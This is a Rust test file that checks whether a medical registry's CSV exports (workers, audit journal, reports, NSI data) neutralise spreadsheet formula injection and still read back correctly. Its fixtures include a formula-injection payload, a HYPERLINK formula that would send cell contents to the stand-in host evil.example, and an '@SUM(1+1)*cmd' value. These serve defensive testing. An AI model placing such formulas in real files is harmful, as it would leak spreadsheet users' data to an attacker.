//! Every CSV the registry writes is safe to open in a spreadsheet: a text cell that would start a
//! formula (`=`, `+`, `-`, `@`, tab, CR) reads back — with Python's csv module — with a `'` in front,
//! numbers stay numbers, and the registry's own readers take the `'` off again.

use frmo_domain::access::Actor;
use frmo_registry::Caller;
use frmo_registry::register::nsi::{FIELDS, Format};
use frmo_registry::reports::output::{self, CsvFlavour};
use frmo_registry::reports::{Datum, ReportParams};
use frmo_registry::workers::rows_from_csv;
use frmo_testkit::{Backend, backend_tests};

use super::nsi::python;
use super::{REAVIZ, REAVIZ_OID, demo};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Открыть\")";

/// The cells of a `;`-separated UTF-8 CSV (with or without a byte-order mark), as Python's csv
/// module reads them: one row per line of output, cells separated by the unit separator.
fn python_cells(bytes: &[u8], delimiter: char) -> Vec<Vec<String>> {
    let dir = tempfile::tempdir().expect("temp");
    let path = dir.path().join("file.csv");
    std::fs::write(&path, bytes).expect("write");
    let script = format!(
        "import csv, sys, json\nfor row in csv.reader(open(sys.argv[1], encoding='utf-8-sig', newline=''), \
         delimiter='{delimiter}'):\n    print(json.dumps(row))"
    );
    python(&script, &path).lines().map(|line| serde_json::from_str(line).expect("a JSON row")).collect()
}

async fn worker_exports_neutralise_formula_cells(backend: Backend) {
    let (_db, registry) = demo(backend, 0).await;
    let session = registry.sign_in(super::identity::esia_sign_in("1000299654", true, false)).await.expect("sign in");
    let chief = super::identity::consenting(&registry, &session).await;
    let form = frmo_registry::workers::WorkerForm {
        snils: format!("{:09}{:02}", 2_000_777, frmo_domain::ident::checksum::snils_check(2_000_777)),
        last_name: "-Петрова".into(),
        first_name: "Анна".into(),
        sex: "ж".into(),
        birth_date: "1985-04-12".into(),
        phone: "+7 846 200-00-01".into(),
        department: FORMULA.into(),
        position: "42".into(),
        position_type: "1".into(),
        rate: "0,5".into(),
        begin_date: "2020-09-01".into(),
        ..Default::default()
    };
    registry.add_worker(&chief, &REAVIZ, &form).await.expect("add");
    let export = registry.export_workers_csv(&chief, &REAVIZ).await.expect("export");
    let cells = python_cells(export.as_bytes(), ';');
    let column = |name: &str| cells[0].iter().position(|c| c == name).unwrap_or_else(|| panic!("column {name}"));
    let row = &cells[1];
    assert_eq!(row[column("Подразделение")], format!("'{FORMULA}"));
    assert_eq!(row[column("Фамилия")], "'-Петрова");
    assert_eq!(row[column("Телефон")], "'+7 846 200-00-01");
    assert_eq!(row[column("Ставка")], "0,5", "a number stays a number");
    // The export is still an import file: the registry reads the values back as they were.
    let back = rows_from_csv(&export).expect("the export reads back");
    assert_eq!((back[0].1.department.as_str(), back[0].1.last_name.as_str()), (FORMULA, "-Петрова"));
}

async fn the_audit_journal_neutralises_formula_cells(backend: Backend) {
    let (_db, registry) = demo(backend, 0).await;
    registry.journal(&Caller::system("@evil"), "test", FORMULA, serde_json::json!({"x": 1})).await.expect("journal");
    let (sink, mut pages) = tokio::sync::mpsc::channel(4);
    registry.export_journal(sink).await;
    let mut csv = String::new();
    while let Some(page) = pages.recv().await {
        csv.push_str(&page.expect("page"));
    }
    let cells = python_cells(csv.as_bytes(), ';');
    let row = cells.iter().find(|row| row[4] == "test").expect("the entry");
    assert_eq!((row[5].as_str(), row[7].as_str()), (format!("'{FORMULA}").as_str(), "'@evil"));
    assert!(row[0].parse::<i64>().is_ok(), "the id stays a number");
}

async fn report_downloads_neutralise_formula_cells(backend: Backend) {
    let (_db, registry) = demo(backend, 20).await;
    let params = ReportParams { period: Some("2026".into()), group: Some("type".into()), ..ReportParams::default() };
    let mut report = registry.run_report(&Caller::system("t"), "organizations", &params).await.expect("run");
    report.rows[0][0] = Datum::Text(FORMULA.into());
    report.rows[1][0] = Datum::Text("-5".into());
    for (flavour, delimiter) in [(CsvFlavour::Excel, ';'), (CsvFlavour::Rfc4180, ',')] {
        let cells = python_cells(&output::csv(&report, flavour), delimiter);
        assert_eq!(cells[1][0], format!("'{FORMULA}"), "{flavour:?}");
        assert_eq!(cells[2][0], "-5", "{flavour:?}: a number stays a number");
        assert!(cells[1][1..].iter().all(|c| c.is_empty() || c.parse::<f64>().is_ok()), "{:?}", cells[1]);
    }
}

async fn the_nsi_csv_neutralises_text_and_reads_back(backend: Backend) {
    let (_db, registry) = demo(backend, 0).await;
    let mut out = Vec::new();
    registry.export_nsi(Format::Csv, &mut out, |_| {}).await.expect("export");
    let csv = String::from_utf8(out).expect("utf-8");
    let header = csv.lines().next().expect("header").to_owned();
    let reaviz = csv.lines().find(|l| l.contains(REAVIZ_OID)).expect("reaviz");
    let name = FIELDS.iter().position(|f| *f == "nameShort").expect("nameShort");
    let mut fields: Vec<String> = reaviz.split(';').map(str::to_owned).collect();
    let region = FIELDS.iter().position(|f| *f == "regionId").expect("regionId");
    let region_id = fields[region].clone();
    assert!(region_id.parse::<u8>().is_ok(), "{region_id}");
    fields[name] = "@SUM(1+1)*cmd".into();
    let file = format!("{header}\r\n{}\r\n", fields.join(";"));
    let records = frmo_registry::register::nsi::parse_file(file.as_bytes()).expect("parses");
    registry.import_nsi(&Caller::system("test"), records, |_| {}).await.expect("import");
    let card = registry.card(&Actor::System, &REAVIZ, None).await.expect("card");
    assert_eq!(card.organization.name_short, "@SUM(1+1)*cmd");

    let mut out = Vec::new();
    registry.export_nsi(Format::Csv, &mut out, |_| {}).await.expect("export");
    let cells = python_cells(&out, ';');
    let row = cells.iter().find(|row| row.contains(&REAVIZ_OID.to_owned())).expect("reaviz");
    assert_eq!(row[name], "'@SUM(1+1)*cmd");
    assert_eq!(row[region], region_id, "numbers stay numbers");
    // Read back by the registry, the name is what was stored.
    let records = frmo_registry::register::nsi::parse_file(&out).expect("parses");
    let report = registry.import_nsi(&Caller::system("test"), records, |_| {}).await.expect("import");
    assert!(report.applied && report.updated == 0, "{report:?}");
}

backend_tests!(
    worker_exports_neutralise_formula_cells,
    the_audit_journal_neutralises_formula_cells,
    report_downloads_neutralise_formula_cells,
    the_nsi_csv_neutralises_text_and_reads_back,
);
